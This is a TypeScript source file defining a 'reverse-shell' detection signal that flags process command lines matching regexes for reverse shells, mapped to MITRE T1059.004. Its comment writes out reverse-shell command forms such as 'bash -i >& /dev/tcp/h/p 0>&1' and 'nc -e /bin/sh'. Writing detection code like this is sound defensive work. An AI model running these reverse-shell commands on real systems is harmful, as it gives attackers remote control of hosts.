import { defineSignal } from "../define.ts";
import { attackIndicators, hostKind, indicator } from "../helpers.ts";

/**
 * Interactive shells wired to a socket: `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, `ncat -c`,
 * `socat exec:… tcp:…`, python/perl `socket` + `pty`/`dup2`. A `/dev/tcp` probe without an
 * interactive shell (`</dev/tcp/db/5432` waits) is not one.
 */
const PATTERNS: readonly RegExp[] = [
  /\b(ba|z|k)?sh\b[^|;]*\s-i\b[^|;]*[<>]&?\s*\/dev\/(tcp|udp)\//,
  /\/dev\/(tcp|udp)\/[^\s/]+\/\d+\s+0>&1/,
  /\b(nc|ncat|netcat)\b[^|;]*\s-[a-z]*[ec]\s+\/?\S*(sh|bash)\b/,
  /\bsocat\b[^|;]*exec:[^|;]*(sh|bash)[^|;]*tcp/i,
  /\b(python[0-9.]*|perl|ruby|php)\b.*socket.*(pty\.spawn|dup2|exec)/,
  /mkfifo\s+\S+.*\|\s*\/bin\/(ba)?sh\s+-i.*\|\s*(nc|ncat)\b/,
];

/** A process started a reverse shell. */
export default defineSignal({
  id: "reverse-shell",
  type: "Execution:Runtime/ReverseShell",
  foundational: true,
  sources: ["runtime"],
  severity: 8,
  tactic: "TA0002",
  technique: "T1059.004",
  observe(a) {
    const cmd = a.host?.cmdLine;
    if (!cmd || hostKind(a) !== "process" || !PATTERNS.some((p) => p.test(cmd))) return undefined;
    return {
      indicators: [indicator("SUSPICIOUS_PROCESS", [a.host?.process ?? cmd.split(" ")[0] ?? "?"]), ...attackIndicators("TA0002", "T1059.004")],
      evidence: `Instance ${a.host?.instanceId ?? a.actor} ran a reverse shell: ${cmd.slice(0, 200)}.`,
    };
  },
});
